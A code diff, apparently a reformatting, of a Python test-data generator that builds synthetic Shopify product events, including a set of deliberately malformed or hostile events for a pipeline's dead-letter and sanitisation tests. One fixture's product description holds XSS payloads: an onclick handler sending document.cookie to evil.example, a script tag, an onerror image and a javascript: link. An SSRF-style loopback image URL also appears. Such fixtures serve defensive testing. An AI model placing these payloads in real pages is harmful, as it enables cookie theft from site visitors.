     pid = {i: f"gid://shopify/Product/{1001 + i}" for i in range(len(CATALOGUE))}
 
     def emit(kind: str, product_id: str, shop: str, product: dict[str, Any] | None) -> None:
-        ev: dict[str, Any] = {"event_id": event_id(rng), "type": kind, "product_id": product_id,
-                              "shop_id": shop, "occurred_at": clock.tick()}
+        ev: dict[str, Any] = {
+            "event_id": event_id(rng),
+            "type": kind,
+            "product_id": product_id,
+            "shop_id": shop,
+            "occurred_at": clock.tick(),
+        }
         if product is not None:
             ev["product"] = product
         events.append(ev)
@@ -1101,7 +1888,8 @@ def build_events(rng: random.Random) -> tuple[list[dict[str, Any]], dict[str, st
             p["description_html"] = p["description_html"].replace("regular fit", "regular fit, now in heather gray,")
         else:
             p["description_html"] = (
-                "<p><strong>NEW 2024 model:</strong> now with 50-hour battery and adaptive ANC.</p>" + p["description_html"]
+                "<p><strong>NEW 2024 model:</strong> now with 50-hour battery and adaptive ANC.</p>"
+                + p["description_html"]
             )
         emit("update", pid[i], OUTLET_SHOP if i in OUTLET else MAIN_SHOP, p)
 
@@ -1123,21 +1911,29 @@ def needed_images() -> set[tuple]:
 BAD_ROWS = [
     ("Malformed JSON: the object is truncated mid-string.", "Dead letter, stage `decode`"),
     ("Missing required field `product_id`.", "Dead letter, stage `decode`"),
-    ("Wrong-typed fields: `occurred_at` is `\"yesterday\"`, `tags` is the number `42`.", "Dead letter, stage `decode`"),
-    ("Empty title: `\"   \"` (whitespace only, stripped to empty).", "Dead letter, stage `decode`"),
-    ("Description contains `<script>alert(1)</script>`, an inline `onclick=` handler, an `onerror=` image and a "
-     "`javascript:` link; otherwise a valid mug.",
-     "Prediction with the script/handlers stripped and a warning flagged (no dead letter)"),
+    ('Wrong-typed fields: `occurred_at` is `"yesterday"`, `tags` is the number `42`.', "Dead letter, stage `decode`"),
+    ('Empty title: `"   "` (whitespace only, stripped to empty).', "Dead letter, stage `decode`"),
+    (
+        "Description contains `<script>alert(1)</script>`, an inline `onclick=` handler, an `onerror=` image and a "
+        "`javascript:` link; otherwise a valid mug.",
+        "Prediction with the script/handlers stripped and a warning flagged (no dead letter)",
+    ),
     ("Raw bytes `\\xff\\xfe` inside the title: the line is not valid UTF-8.", "Dead letter, stage `decode`"),
-    ("Image URL `http://127.0.0.1:9/unreachable.jpg`: a loopback address, which the image address policy refuses before any connection (`ImageRefused`); otherwise valid.",
-     "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`"),
-    ("`image_urls` points at `images/not-an-image.png`, which is a text file.",
-     "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`"),
-    ("`image_urls` points at `images/oversized.png`: 9000x9000 px (81 MP) flat PNG, ~10 KB on disk.",
-     "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`"),
-    ("Unknown event type `\"upsert\"`.", "Dead letter, stage `decode`"),
+    (
+        "Image URL `http://127.0.0.1:9/unreachable.jpg`: a loopback address, which the image address policy refuses before any connection (`ImageRefused`); otherwise valid.",
+        "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`",
+    ),
+    (
+        "`image_urls` points at `images/not-an-image.png`, which is a text file.",
+        "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`",
+    ),
+    (
+        "`image_urls` points at `images/oversized.png`: 9000x9000 px (81 MP) flat PNG, ~10 KB on disk.",
+        "Prediction (text only) with a warning + an image dead letter, stage `prepare_images`",
+    ),
+    ('Unknown event type `"upsert"`.', "Dead letter, stage `decode`"),
     ("A JSON array (holding an otherwise valid event) instead of an object.", "Dead letter, stage `decode`"),
-    ("`type: \"create\"` with `\"product\": null`.", "Dead letter, stage `decode`"),
+    ('`type: "create"` with `"product": null`.', "Dead letter, stage `decode`"),
 ]
 
 
@@ -1146,20 +1942,30 @@ def build_bad_events(rng: random.Random) -> list[bytes]:
     clock.t = BASE_TIME + timedelta(days=3)
 
     def ev(n: int, product: dict[str, Any] | None, **over: Any) -> dict[str, Any]:
-        e: dict[str, Any] = {"event_id": f"bad-{n:02d}-{event_id(rng)[:8]}", "type": "create",
-                             "product_id": f"gid://shopify/Product/{9000 + n}", "shop_id": MAIN_SHOP,
-                             "occurred_at": clock.tick()}
+        e: dict[str, Any] = {
+            "event_id": f"bad-{n:02d}-{event_id(rng)[:8]}",
+            "type": "create",
+            "product_id": f"gid://shopify/Product/{9000 + n}",
+            "shop_id": MAIN_SHOP,
+            "occurred_at": clock.tick(),
+        }
         if product is not None:
             e["product"] = product
         e.update(over)
         return e
 
     def prod(title: str, **over: Any) -> dict[str, Any]:
-        p: dict[str, Any] = {"title": title, "description_html": "<p>Soft cotton, relaxed fit.</p>",
-                             "product_type": "Tops", "vendor": "Maple & Thread", "tags": ["women"],
-                             "image_urls": [image_name("tshirt", "white")],
-                             "variant_options": [{"name": "Size", "values": ["S", "M", "L"]}], "price": 25.0,
-                             "inventory_quantity": 10}
+        p: dict[str, Any] = {
+            "title": title,
+            "description_html": "<p>Soft cotton, relaxed fit.</p>",
+            "product_type": "Tops",
+            "vendor": "Maple & Thread",
+            "tags": ["women"],
+            "image_urls": [image_name("tshirt", "white")],
+            "variant_options": [{"name": "Size", "values": ["S", "M", "L"]}],
+            "price": 25.0,
+            "inventory_quantity": 10,
+        }
         p.update(over)
         return p
 
@@ -1179,27 +1985,59 @@ def build_bad_events(rng: random.Random) -> list[bytes]:
     # 4 empty title
     lines.append(line(ev(4, prod("   "))))
     # 5 script + inline handlers (valid event)
-    lines.append(line(ev(5, prod(
-        "Speckled Stoneware Mug - Limited Edition",
-        description_html=(
-            "<p onclick=\"fetch('https://evil.example/c?'+document.cookie)\">Hand-glazed 12 oz stoneware mug.</p>"
-            "<script>alert(1)</script>"
-            "<ul><li>Dishwasher safe</li><li>Microwave safe</li></ul>"
-            "<img src=\"x\" onerror=\"alert('xss')\">"
-            "<p><a href=\"javascript:alert(2)\">Click for 10% off</a></p>"
-        ),
-        product_type="Mugs", vendor="Kettle & Co.", tags=["mug", "ceramic"],
-        image_urls=[image_name("mug", "white")], variant_options=[],
-    ))))
+    lines.append(
+        line(
+            ev(
+                5,
+                prod(
+                    "Speckled Stoneware Mug - Limited Edition",
+                    description_html=(
+                        "<p onclick=\"fetch('https://evil.example/c?'+document.cookie)\">Hand-glazed 12 oz stoneware mug.</p>"
+                        "<script>alert(1)</script>"
+                        "<ul><li>Dishwasher safe</li><li>Microwave safe</li></ul>"
+                        '<img src="x" onerror="alert(\'xss\')">'
+                        '<p><a href="javascript:alert(2)">Click for 10% off</a></p>'
+                    ),
+                    product_type="Mugs",
+                    vendor="Kettle & Co.",
+                    tags=["mug", "ceramic"],
+                    image_urls=[image_name("mug", "white")],
+                    variant_options=[],
+                ),
+            )
+        )
+    )
     # 6 invalid UTF-8 inside the title
     ok = line(ev(6, prod("Caf\u00e9 PLACEHOLDER Apron", product_type="Aprons", image_urls=[])))
-    lines.append(ok.replace("PLACEHOLDER".encode(), b"\xff\xfe"))
+    lines.append(ok.replace(b"PLACEHOLDER", b"\xff\xfe"))
     # 7 unreachable image
-    lines.append(line(ev(7, prod("Polka Dot Tea Dress", description_html="<p>Pink polka dot tea dress, cap sleeves, midi.</p>",
-                                 product_type="Dresses", image_urls=["http://127.0.0.1:9/unreachable.jpg"]))))
+    lines.append(
+        line(
+            ev(
+                7,
+                prod(
+                    "Polka Dot Tea Dress",
+                    description_html="<p>Pink polka dot tea dress, cap sleeves, midi.</p>",
+                    product_type="Dresses",
+                    image_urls=["http://127.0.0.1:9/unreachable.jpg"],
+                ),
+            )
+        )
+    )
     # 8 non-image
-    lines.append(line(ev(8, prod("Women's Canvas Sneakers - Red", description_html="<p>Low-top lace-up canvas sneakers.</p>",
-                                 product_type="Shoes", image_urls=["images/not-an-image.png"]))))
+    lines.append(
+        line(
+            ev(
+                8,
+                prod(
+                    "Women's Canvas Sneakers - Red",
+                    description_html="<p>Low-top lace-up canvas sneakers.</p>",
+                    product_type="Shoes",
+                    image_urls=["images/not-an-image.png"],
+                ),
+            )
+        )
+    )
     # 9 oversized image
     lines.append(line(ev(9, prod("Oversized Boyfriend Tee", image_urls=["images/oversized.png"]))))
     # 10 unknown type
